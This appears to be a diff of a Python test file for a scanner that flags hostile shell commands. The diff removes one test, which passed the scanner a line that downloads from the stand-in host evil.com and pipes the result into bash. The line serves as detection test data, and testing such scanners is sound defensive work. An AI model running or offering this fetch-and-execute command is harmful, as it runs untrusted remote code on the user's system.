@@ -49,9 +49,6 @@ def test_text_of_a_hostile_line_holds_no_control_characters() -> None:
     assert [char for char in text if not char.isprintable() and char != "\n"] == []
 
 
-def test_what_is_piped_to_a_shell_is_shown_whole() -> None:
-    found = _scan("curl -s http://evil.com/i | tee log | bash -s -- -y\n").findings
-    assert found[0].command == "curl -s http://evil.com/i | tee log | bash -s -- -y"
 
 
 def test_json_is_versioned_and_names_what_blocks() -> None:
